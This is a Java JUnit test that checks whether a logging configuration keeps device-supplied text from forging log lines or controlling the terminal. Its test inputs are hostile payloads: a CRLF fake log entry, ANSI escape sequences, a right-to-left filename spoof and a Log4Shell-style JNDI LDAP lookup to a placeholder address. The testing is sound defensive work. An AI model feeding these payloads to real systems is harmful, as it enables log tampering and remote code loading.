package org.camsweep.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.ConsoleAppender;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URL;
import java.util.Objects;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.Logger;

/** The shipped configuration of the log under words that a device might get into it. */
class LogLineTest {
  private static final URL SHIPPED =
      Objects.requireNonNull(LogLineTest.class.getResource("/logback.xml"));

  private static String logged(String words) throws Exception {
    LoggerContext context = new LoggerContext();
    context.setMDCAdapter(new LogbackMDCAdapter());
    JoranConfigurator configurator = new JoranConfigurator();
    configurator.setContext(context);
    configurator.doConfigure(SHIPPED);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ConsoleAppender<?> stderr =
        (ConsoleAppender<?>) context.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("stderr");
    stderr.setOutputStream(out);
    Logger log = context.getLogger("test");
    log.warn("said {}", words);
    log.warn("failed", new IOException(words));
    context.stop();
    return out.toString(UTF_8);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\r\ncamsweep: everything is clear",
        "\u001b[2J\u001b]0;owned\u0007",
        "\u202egpj.exe\u2066",
        "c1 \u009b 31m",
        "line\u2028separator",
        "${jndi:ldap://203.0.113.9/a} %msg %n %replace"
      })
  void aDevicesWordsStayOnTheirLineAndMoveNoCursor(String words) throws Exception {
    String logged = logged(words);
    assertThat(logged.lines()).as(logged).hasSize(2).allMatch(l -> l.startsWith("camsweep: "));
    assertThat(logged.replace("\n", "").chars())
        .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
    assertThat(logged).contains("java.io.IOException: ");
  }
}
